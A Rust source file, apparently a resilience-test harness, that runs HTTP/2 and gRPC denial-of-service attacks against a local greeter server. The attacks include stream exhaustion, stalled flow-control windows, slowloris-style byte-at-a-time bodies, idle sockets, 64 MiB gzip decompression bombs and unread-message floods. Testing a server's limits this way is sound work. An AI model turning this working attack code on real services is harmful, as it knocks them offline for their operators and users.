//! Attacks within the rules of HTTP/2: clients who hold connections and streams open, and messages that inflate.

use std::{io::Write as _, time::Duration};

use bytes::{BufMut, Bytes, BytesMut};
use h2::{
    SendStream,
    client::{Builder, ResponseFuture, SendRequest},
};
use tokio::{
    net::TcpStream,
    task::JoinSet,
    time::{sleep, timeout},
};

use crate::{Aim, tally::Tally};

/// How long connecting may take, where it is not expected to.
const SHORT: Duration = Duration::from_millis(50);

type Call = (ResponseFuture, SendStream<Bytes>);

async fn connect(aim: Aim, tally: &Tally, settings: &Builder) -> Option<SendRequest<Bytes>> {
    let socket = TcpStream::connect(("127.0.0.1", aim.port)).await.ok()?;
    let (caller, connection) = settings.handshake(socket).await.ok()?;
    let counts = tally.clone();
    tally.add("connections", 1);
    tokio::spawn(async move {
        if let Err(error) = connection.await {
            counts.add(format!("connections ended by {:?}", error.reason()), 1);
        }
    });
    Some(caller)
}

async fn begin(caller: &SendRequest<Bytes>, method: &str, encoding: &str) -> Option<Call> {
    let request = http::Request::post(format!("http://localhost/greet.Greeter/{method}"))
        .header("content-type", "application/grpc")
        .header("grpc-encoding", encoding)
        .header("te", "trailers");
    let request = request.body(()).expect("a request");
    // A stream for which the server has no room is waited for, for a while.
    let ready = timeout(Duration::from_secs(1), caller.clone().ready()).await;
    ready.ok()?.ok()?.send_request(request, false).ok()
}

/// A message in gRPC's frame.
fn frame(flag: u8, message: &[u8]) -> Bytes {
    let mut frame = BytesMut::new();
    frame.put_u8(flag);
    frame.put_u32(message.len() as u32);
    frame.put_slice(message);
    frame.freeze()
}

/// A request with a name of so many bytes, below 16,384.
fn greeting(name: usize) -> Bytes {
    let mut message = vec![0x0a, (name & 0x7f) as u8 | 0x80, (name >> 7) as u8];
    message.extend(std::iter::repeat_n(b'x', name));
    frame(0, &message)
}

/// Opens `streams` on each of `lines` connections, does `first` to each, and holds them.
async fn hold(
    aim: Aim,
    tally: &Tally,
    lines: usize,
    streams: usize,
    settings: &Builder,
    method: &str,
    first: impl Fn(&mut SendStream<Bytes>),
) -> Vec<Call> {
    let mut held = Vec::new();
    for _ in 0..lines {
        let Some(caller) = connect(aim, tally, settings).await else {
            continue;
        };
        for _ in 0..streams {
            if aim.is_over() {
                return held;
            }
            let Some((response, mut body)) = begin(&caller, method, "identity").await else {
                break;
            };
            first(&mut body);
            held.push((response, body));
            tally.add("streams", 1);
        }
    }
    held
}

/// 40 connections with 250 streams each, all open.
pub async fn streams(aim: Aim, tally: &Tally) {
    let held = hold(
        aim,
        tally,
        40,
        250,
        &Builder::new(),
        "InteractingHello",
        |_| {},
    )
    .await;
    aim.hold().await;
    drop(held);
}

/// Replies of 200 KiB each that nobody takes, on 4 connections of 250 streams.
pub async fn stalled(aim: Aim, tally: &Tally) {
    let mut settings = Builder::new();
    settings.initial_window_size(0);
    let request = greeting(200);
    let ask = |body: &mut SendStream<Bytes>| {
        let _ = body.send_data(request.clone(), true);
    };
    let held = hold(aim, tally, 4, 250, &settings, "ParrotSaysHello", ask).await;
    aim.hold().await;
    drop(held);
}

/// A message of which a byte comes every 100 ms, on 4 connections of 250 streams.
pub async fn slow_bodies(aim: Aim, tally: &Tally) {
    let request = greeting(10_000);
    let method = "ChattyClientSaysHello";
    let mut held = hold(aim, tally, 4, 250, &Builder::new(), method, |_| {}).await;
    for at in 0..request.len() {
        if aim.is_over() {
            break;
        }
        for (_, body) in &mut held {
            let _ = body.send_data(request.slice(at..=at), false);
        }
        tally.add("bytes on each", 1);
        sleep(Duration::from_millis(100)).await;
    }
}

/// Half of them speak HTTP/2 and then nothing, half say nothing at all.
pub async fn idle(aim: Aim, tally: &Tally, lines: usize) {
    let (mut silent, mut callers) = (Vec::new(), Vec::new());
    for number in 0..lines {
        if aim.is_over() {
            break;
        }
        // A server that takes none for now is not waited for.
        if number % 2 == 0 {
            let connected = TcpStream::connect(("127.0.0.1", aim.port));
            silent.extend(timeout(SHORT, connected).await);
        } else {
            let settings = Builder::new();
            callers.extend(timeout(SHORT, connect(aim, tally, &settings)).await);
        }
    }
    tally.add("silent sockets", silent.len() as u64);
    aim.hold().await;
}

/// Messages of 64 MiB that were compressed to 64 KiB: 16 at a time on each of 4 connections.
pub async fn bombs(aim: Aim, tally: &Tally) {
    let mut packed = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    packed.write_all(&vec![0; 64 << 20]).expect("memory");
    let bomb = frame(1, &packed.finish().expect("memory"));
    let mut lanes = JoinSet::new();
    for _ in 0..4 {
        let Some(caller) = connect(aim, tally, &Builder::new()).await else {
            return;
        };
        for _ in 0..16 {
            let (caller, bomb, tally) = (caller.clone(), bomb.clone(), tally.clone());
            lanes.spawn(async move {
                while !aim.is_over() {
                    let Some((response, mut body)) = begin(&caller, "SayHello", "gzip").await
                    else {
                        return;
                    };
                    let _ = body.send_data(bomb.clone(), true);
                    let status = match response.await {
                        Ok(response) => response.headers().get("grpc-status").cloned(),
                        Err(_) => None,
                    };
                    let status = status.as_ref().and_then(|it| it.to_str().ok());
                    tally.add(format!("of grpc-status {}", status.unwrap_or("none")), 1);
                }
            });
        }
    }
    while lanes.join_next().await.is_some() {}
}

/// 20,000 small messages on each of 16 streams, to a handler that cannot go on, since its replies are not taken.
pub async fn unread(aim: Aim, tally: &Tally) {
    let mut settings = Builder::new();
    settings
        .initial_window_size(0)
        .max_send_buffer_size(16 << 20);
    let message = frame(0, b"\x0a\x05Annie");
    let send = |body: &mut SendStream<Bytes>| {
        for _ in 0..20_000 {
            let _ = body.send_data(message.clone(), false);
        }
        tally.add("messages", 20_000);
    };
    let held = hold(aim, tally, 4, 4, &settings, "InteractingHello", send).await;
    aim.hold().await;
    drop(held);
}
